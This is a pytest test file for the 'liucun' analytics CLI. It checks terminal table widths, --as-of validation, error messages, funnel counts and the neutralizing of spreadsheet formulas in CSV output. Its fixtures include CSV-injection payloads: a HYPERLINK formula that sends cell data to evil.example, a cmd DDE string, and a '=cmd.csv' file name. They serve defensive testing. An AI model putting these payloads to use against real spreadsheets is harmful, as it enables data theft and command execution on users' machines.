"""What the CLI prints (issue 10): tables that fit an 80-column terminal, CSV that a
spreadsheet cannot run, --as-of checked against the data, train errors in flags,
retention and funnel event types checked, and `liucun funnel`.

Run in-process through Typer's test runner (Rich reads ``COLUMNS`` at print time)
against real DuckDB workspaces.
"""

from __future__ import annotations

import csv
import io
import json
import re
import traceback
from datetime import UTC, date, datetime, timedelta
from pathlib import Path

import pandas as pd
import pytest
from typer.testing import CliRunner

from helpers import make_workspace
from liucun.cli import app

_ANSI = re.compile(r"\x1b\[[0-9;?]*[A-Za-z]")
HEADER = "user_id,event_type,ts,revenue,currency,channel"


def run(args: list[str], columns: int | None = None) -> tuple[int, str]:
    """Exit code and everything printed (stdout and stderr); a traceback on a crash."""
    env = {"COLUMNS": str(columns)} if columns else None
    res = CliRunner().invoke(app, args, env=env)
    out = _ANSI.sub("", res.output)
    if res.exception is not None and not isinstance(res.exception, SystemExit):
        out += "".join(traceback.format_exception(res.exception))
    return res.exit_code, out


def one_line(out: str) -> str:
    assert "Traceback" not in out, out
    lines = out.strip().splitlines()
    assert len(lines) == 1, out
    return lines[0]


@pytest.fixture(autouse=True)
def _no_ambient_workspace(monkeypatch: pytest.MonkeyPatch) -> None:
    for name in ("LIUCUN_WORKSPACE", "LIUCUN_WAREHOUSE_URL", "COLUMNS"):
        monkeypatch.delenv(name, raising=False)


def _orders(path: Path, rows: list[tuple[str, str, str, float]]) -> Path:
    """An export of (user, event type, day, revenue) rows at 10:00 UTC."""
    lines = [HEADER]
    for user, kind, day, revenue in rows:
        money = f"{revenue},USD" if kind == "order" else ","
        lines.append(f'"{user.replace(chr(34), chr(34) * 2)}",{kind},{day}T10:00:00Z,{money},web')
    path.write_text("\n".join(lines) + "\n", encoding="utf-8")
    return path


@pytest.fixture
def shop(tmp_path: Path) -> Path:
    """A workspace with 40 customers ordering over 2024 (one has a formula as its id)."""
    ws = make_workspace(tmp_path / "ws")
    rows: list[tuple[str, str, str, float]] = []
    start = date(2024, 1, 1)
    for i in range(40):
        user = '=HYPERLINK("http://evil.example/?"&A1,"click")' if i == 0 else f"user{i:02d}"
        for k in range(1 + i % 4):
            day = start + timedelta(days=7 * i + 30 * k)
            rows.append((user, "order", day.isoformat(), 10.0 + i + k))
        rows.append((user, "visit", (start + timedelta(days=7 * i)).isoformat(), 0.0))
    code, out = run(["-w", str(ws), "ingest", "events", str(_orders(tmp_path / "o.csv", rows))])
    assert code == 0, out
    return ws


# -- 1. tables fit the terminal -----------------------------------------------------------


def _header_cells(out: str) -> list[str]:
    """The header row of the first table printed (between ┃ bars), cell by cell."""
    line = next(line for line in out.splitlines() if line.startswith("┃"))
    return [cell.strip() for cell in line.strip("┃").split("┃")]


def _assert_fits(out: str, columns: list[str], width: int) -> None:
    """Every line fits; every column's header is shown whole, or the note names it."""
    assert all(len(line) <= width for line in out.splitlines()), out
    shown = _header_cells(out)
    assert all("…" not in cell for cell in shown), shown
    note = " ".join(out.split()).partition("Not shown at this width")[2]
    for col in columns:
        assert col in shown or re.search(rf"\b{re.escape(col)}\b", note), (col, out)
    if set(columns) - set(shown):
        assert "--format csv or --format json" in note, out
    assert set(shown) <= set(columns)


def test_a_wide_customer_list_fits_80_columns_with_a_note(shop: Path) -> None:
    args = ["-w", str(shop), "segments", "--customers", "5", "--as-of", "2025-01-01"]
    code, out = run([*args, "--format", "csv"])
    assert code == 0, out
    columns = next(csv.reader(io.StringIO(out)))
    assert len(columns) > 10  # wider than any 80-column terminal
    code, out = run(args, columns=80)
    assert code == 0, out
    _assert_fits(out, columns, 80)
    assert "user_id" in _header_cells(out)  # the most important column stays


def test_retention_by_a_breakdown_keeps_the_breakdown_at_80_columns(shop: Path) -> None:
    args = ["-w", str(shop), "retention", "--breakdown", "channel", "--max-period", "2"]
    code, out = run([*args, "--format", "csv"])
    assert code == 0, out
    columns = next(csv.reader(io.StringIO(out)))
    for width in (80, 60):
        code, out = run(args, columns=width)
        assert code == 0, out
        _assert_fits(out, columns, width)
        assert {"cohort", "channel", "period", "rate"} <= set(_header_cells(out))


def test_score_shaped_table_wraps_reasons_and_cuts_no_header(
    monkeypatch: pytest.MonkeyPatch, capsys: pytest.CaptureFixture[str]
) -> None:
    """The `score --top` table (the defect: 'churn_mod…') at 80 columns."""
    from liucun.cli._app import OutputFormat, _emit

    monkeypatch.setenv("COLUMNS", "80")
    frame = pd.DataFrame(
        {
            "user_id": ["U00000558", "U00000115"],
            "churn_risk": [0.6561, 0.3223],
            "clv_365d": [1975.9, 3574.0],
            "stage": ["mature", "growth"],
            "reasons": [
                "no order for 21 days; buying pattern: 94% chance of still being active, "
                "1.4 orders expected in 90 days",
                "first order 98 days ago",
            ],
        }
    )
    _emit(frame, OutputFormat.table, title="Most value at risk", out=None, priority=["user_id"])
    out = _ANSI.sub("", capsys.readouterr().out)
    _assert_fits(out, list(frame.columns), 80)
    assert _header_cells(out) == list(frame.columns)  # all five fit, reasons wrapped
    assert "1.4 orders" in " ".join(out.split())


def test_numbers_are_never_shortened_even_when_columns_go(
    monkeypatch: pytest.MonkeyPatch, capsys: pytest.CaptureFixture[str]
) -> None:
    from liucun.cli._app import OutputFormat, _emit

    monkeypatch.setenv("COLUMNS", "40")
    frame = pd.DataFrame({f"metric_number_{i}": [123456.0 + i] for i in range(6)})
    _emit(frame, OutputFormat.table, title="", out=None)
    out = _ANSI.sub("", capsys.readouterr().out)
    _assert_fits(out, list(frame.columns), 40)
    assert "123,456" in out


@pytest.mark.parametrize(
    "command",
    [
        ["retention"],
        ["metrics"],
        ["segments"],
        ["score"],
        ["train"],
        ["models"],
        ["funnel"],
        ["experiment", "analyze"],
        ["uplift", "evaluate"],
        ["uplift", "policy"],
        ["quarantine", "show"],
        ["status"],
        ["state", "status"],
    ],
    ids=" ".join,
)
def test_every_table_command_offers_csv_and_json(command: list[str]) -> None:
    code, out = run([*command, "--help"], columns=200)
    assert code == 0, out
    assert "--format" in out, out


# -- 2. CSV outputs neutralize formula cells ----------------------------------------------


def test_a_formula_user_id_is_neutralized_in_csv(shop: Path) -> None:
    code, out = run(
        [
            "-w",
            str(shop),
            "segments",
            "--customers",
            "3",
            "--as-of",
            "2025-01-01",
            "--format",
            "csv",
        ]
    )
    assert code == 0, out
    rows = list(csv.DictReader(io.StringIO(out)))
    ids = [r["user_id"] for r in rows]
    assert ids[0] == '\'=HYPERLINK("http://evil.example/?"&A1,"click")'
    assert ids[1:] == ["user01", "user02"]
    assert all(not v.startswith(("=", "+", "@")) for r in rows for v in r.values())
    code, out = run(
        [
            "-w",
            str(shop),
            "segments",
            "--customers",
            "3",
            "--as-of",
            "2025-01-01",
            "--format",
            "json",
        ]
    )
    assert json.loads(out.splitlines()[0])["user_id"].startswith("=HYPERLINK")  # JSON as is


def test_neutralize_formulas_follows_the_owasp_rule() -> None:
    from liucun.core import csv_text, neutralize_formulas

    frame = pd.DataFrame(
        {
            "text": ["=1+2", "+cmd|' /C calc'!A0", "-2+3", "@SUM(A1)", "\tx", "\rx", "ok", "-3.5"],
            "number": [-3.5, 1.0, -2.0, 0.0, 1e-9, -1e300, 2.0, 3.0],
        }
    )
    safe = neutralize_formulas(frame)
    assert list(safe.text) == [
        "'=1+2",
        "'+cmd|' /C calc'!A0",
        "'-2+3",
        "'@SUM(A1)",
        "'\tx",
        "'\rx",
        "ok",
        "-3.5",  # text that is a plain number is a number, not a formula
    ]
    assert list(safe.number) == list(frame.number)  # numbers untouched
    assert frame.text.iloc[0] == "=1+2"  # the caller's frame is not changed
    # a carriage return inside a cell is quoted (RFC 4180 line ends), so the rows survive
    rows = list(
        csv.reader(io.StringIO(csv_text(frame.assign(text=[*frame.text[:7], "a\rb"])), newline=""))
    )
    assert rows[0] == ["text", "number"]
    assert [r[0] for r in rows[1:]] == [*safe.text[:7], "a\rb"]
    assert [float(r[1]) for r in rows[1:]] == list(frame.number)
    headers = pd.DataFrame({"=evil": [1], "ok": ["-x"]})
    assert csv_text(headers).splitlines() == ["'=evil,ok", "1,'-x"]  # names too


def test_quarantine_csv_neutralizes_a_formula_file_name(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    """The quarantine keeps the source as given: a file called '=cmd.csv' is a formula."""
    ws = make_workspace(tmp_path / "ws")
    monkeypatch.chdir(tmp_path)
    (tmp_path / "=cmd.csv").write_text(
        f"{HEADER}\nu0,order,never,1,USD,web\nu1,order,2024-01-01,1,USD,web\n"
    )
    assert run(["-w", str(ws), "ingest", "events", "=cmd.csv"])[0] == 0
    code, out = run(["-w", str(ws), "quarantine", "show", "--format", "csv"])
    assert code == 0, out
    rows = list(csv.DictReader(io.StringIO(out)))
    assert [r["source"] for r in rows] == ["'=cmd.csv"]
    assert json.loads(rows[0]["raw"])["ts"] == "never"  # the raw row is still JSON


# -- 3. train errors name flags -----------------------------------------------------------


def test_train_on_short_history_names_the_horizon_flag(tmp_path: Path) -> None:
    ws = make_workspace(tmp_path / "ws")
    start = date(2024, 1, 1)
    rows = [
        (f"u{i}", "order", (start + timedelta(days=(i * 13) % 200)).isoformat(), 5.0)
        for i in range(60)
    ] + [("u0", "order", (start + timedelta(days=200)).isoformat(), 5.0)]
    assert run(["-w", str(ws), "ingest", "events", str(_orders(tmp_path / "o.csv", rows))])[0] == 0
    code, out = run(["-w", str(ws), "train", "--horizon", "90"])
    line = one_line(out)
    assert code == 1, out
    assert "horizon_days" not in line and "min_history_days" not in line, line
    assert "--horizon 90" in line
    suggested = int(re.search(r"pass --horizon (\d+) or shorter", line).group(1))  # type: ignore[union-attr]
    # from --help: about 3 × H + 90 days of order history; the data span 200 days
    span = 200
    assert 3 * suggested + 90 <= span < 3 * (suggested + 1) + 90
    code, out = run(["train", "--help"], columns=200)
    assert "3 × H + 90 days" in " ".join(out.split())


# -- 4. --as-of after the data end --------------------------------------------------------


@pytest.mark.parametrize(
    "command",
    [
        ["metrics"],
        ["segments"],
        ["score"],
        ["train"],
        ["report"],
        ["uplift", "policy", "--max-customers", "5"],
    ],
    ids=" ".join,
)
def test_as_of_after_the_data_is_an_error_naming_its_end(shop: Path, command: list[str]) -> None:
    code, out = run(["-w", str(shop), *command, "--as-of", "2030-01-01"])
    line = one_line(out)
    assert code == 1
    # the last order: user 39's 4th, on 2024-01-01 + 7·39 + 3·30 = 363 days = 2024-12-29
    assert "--as-of 2030-01-01 is after the data, which ends on 2024-12-29" in line, line
    assert "up to 2025-01-06" in line  # the data end (Dec 30, exclusive) + 7 days


def test_as_of_a_few_days_after_the_data_is_accepted(shop: Path) -> None:
    code, out = run(["-w", str(shop), "metrics", "--as-of", "2025-01-06", "--format", "csv"])
    assert code == 0, out
    code, out = run(["-w", str(shop), "metrics", "--as-of", "2025-01-07"])
    assert code == 1 and "ends on 2024-12-29" in one_line(out)


# -- 5. event types of retention ----------------------------------------------------------


def test_retention_with_a_wrong_case_event_suggests_lower_case(shop: Path) -> None:
    code, out = run(["-w", str(shop), "retention", "--cohort-event", "Visit"])
    line = one_line(out)
    assert code == 1
    assert (
        "'Visit'" in line and "use 'visit'" in line and line.endswith("pass --cohort-event visit")
    )


def test_retention_with_an_unknown_event_lists_the_known_ones(shop: Path) -> None:
    code, out = run(["-w", str(shop), "retention", "--return-event", "catalog"])
    line = one_line(out)
    assert code == 1
    assert "'catalog' is not a known event type; the data have order, visit" in line
    assert "add_to_cart" in line  # standard types not in the data are listed too
    assert line.endswith("pass --return-event order")


# -- 6. liucun funnel ---------------------------------------------------------------------


@pytest.fixture
def clicks(tmp_path: Path) -> Path:
    """Four users: a visits, views and orders within a day; b visits and views, orders
    ten days later; c orders without viewing; d only visits (before --since)."""
    ws = make_workspace(tmp_path / "ws")
    rows = [
        ("a", "visit", "2024-03-01", 0.0),
        ("a", "view", "2024-03-01", 0.0),
        ("a", "order", "2024-03-02", 9.0),
        ("b", "visit", "2024-03-01", 0.0),
        ("b", "view", "2024-03-02", 0.0),
        ("b", "order", "2024-03-12", 9.0),
        ("c", "visit", "2024-03-03", 0.0),
        ("c", "order", "2024-03-04", 9.0),
        ("d", "visit", "2024-02-01", 0.0),
    ]
    # same-day steps: view at 10:00 after visit at 10:00 would not be "after"; shift them
    text = _orders(tmp_path / "c.csv", rows).read_text()
    text = text.replace('"a",view,2024-03-01T10:00', '"a",view,2024-03-01T11:00')
    (tmp_path / "c.csv").write_text(text)
    assert run(["-w", str(ws), "ingest", "events", str(tmp_path / "c.csv")])[0] == 0
    return ws


def test_funnel_counts_ordered_steps_within_the_window(clicks: Path) -> None:
    base = ["-w", str(clicks), "funnel", "visit", "view", "order", "--format", "csv"]
    code, out = run([*base, "--since", "2024-03-01"])
    assert code == 0, out
    got = [(r["name"], int(r["users"])) for r in csv.DictReader(io.StringIO(out))]
    assert got == [("visit", 3), ("view", 2), ("order", 1)]  # b's order is 11 days out
    code, out = run([*base, "--since", "2024-03-01", "--window", "2w"])
    got = [(r["name"], int(r["users"])) for r in csv.DictReader(io.StringIO(out))]
    assert got == [("visit", 3), ("view", 2), ("order", 2)]
    code, out = run([*base, "--window", "2w"])  # d's visit counts without --since
    rows = list(csv.DictReader(io.StringIO(out)))
    assert [int(r["users"]) for r in rows] == [4, 2, 2]
    assert float(rows[2]["conversion"]) == 0.5 and float(rows[1]["drop_off"]) == 0.5


def test_funnel_table_default_steps_and_errors(clicks: Path) -> None:
    code, out = run(["-w", str(clicks), "funnel"], columns=80)
    assert code == 0, out
    names = re.findall(r"│\s+\d\s+│ (\w+)", out)
    assert names == ["visit", "view", "add_to_cart", "order"]  # the report's funnel
    code, out = run(["-w", str(clicks), "funnel", "Visit", "order"])
    assert code == 1 and "use 'visit'" in one_line(out)
    code, out = run(["-w", str(clicks), "funnel", "visit", "order", "--window", "soon"])
    assert code == 1 and "--window 'soon' is not a positive duration" in one_line(out)
    code, out = run(["-w", str(clicks), "funnel", "visit"])
    assert code == 1 and "at least two steps" in one_line(out)


def test_score_csv_keeps_progress_off_stdout() -> None:
    """`--format csv|json` output is data only: the CLI's progress goes to stderr."""
    from liucun.cli._app import OutputFormat, chatter, console, err_console

    assert chatter(OutputFormat.csv) is err_console
    assert chatter(OutputFormat.json) is err_console
    assert chatter(OutputFormat.table) is console


def test_as_of_check_unit() -> None:
    from liucun.cli._app import check_as_of
    from liucun.core import ConfigError

    end = datetime(2024, 12, 31, tzinfo=UTC)  # the data end: the last event was on Dec 30
    check_as_of(end + timedelta(days=7), end)
    check_as_of(datetime(2030, 1, 1, tzinfo=UTC), None)  # no events: nothing to check
    with pytest.raises(ConfigError, match="ends on 2024-12-30"):
        check_as_of(end + timedelta(days=8), end)


def test_library_parameter_names_in_messages_become_flags() -> None:
    """A library sentence naming ``horizon_days`` reads ``--horizon`` under `liucun train`."""
    import typer

    from liucun.cli._app import _error_line
    from liucun.core import ConfigError

    command = typer.main.get_command(app).commands["train"]  # type: ignore[attr-defined]
    ctx = typer.Context(command)
    err = ConfigError("use a shorter horizon_days, or load more history; where it ends")
    line = _error_line(err, ctx)
    assert "use a shorter --horizon, or load more history; where it ends" in line
    assert "horizon_days" not in line
    assert "horizon_days" in _error_line(err, None)  # no command: the library's own words


def test_status_and_state_status_as_csv_and_json(shop: Path) -> None:
    code, out = run(["-w", str(shop), "status", "--format", "csv"])
    assert code == 0, out
    rows = {(r["section"], r["name"]): r["value"] for r in csv.DictReader(io.StringIO(out))}
    orders = sum(1 + i % 4 for i in range(40))
    assert rows[("warehouse", "users")] == "0"  # only events were loaded
    assert rows[("warehouse", "events")] == str(orders + 40)
    assert rows[("events_by_type", "visit")] == "40"
    assert rows[("events_by_type", "order")] == str(orders)
    assert rows[("revenue_by_currency", "USD: orders")] == rows[("events_by_type", "order")]
    code, out = run(["-w", str(shop), "state", "status", "--format", "json"])
    assert code == 0, out
    got = [json.loads(line) for line in out.splitlines()]
    assert {"section": "state", "name": "backend", "value": "sqlite"} in got


def test_every_csv_writer_goes_through_the_neutralizing_function() -> None:
    """One function writes CSV for the whole package (core/_csv.py); no stray to_csv."""
    src = Path(__file__).resolve().parents[1] / "src" / "liucun"
    stray = [
        f"{path.relative_to(src)}:{n}"
        for path in src.rglob("*.py")
        if path.name != "_csv.py"
        for n, line in enumerate(path.read_text(encoding="utf-8").splitlines(), start=1)
        if ".to_csv(" in line or "csv.writer(" in line or "csv.DictWriter(" in line
    ]
    assert stray == [], stray
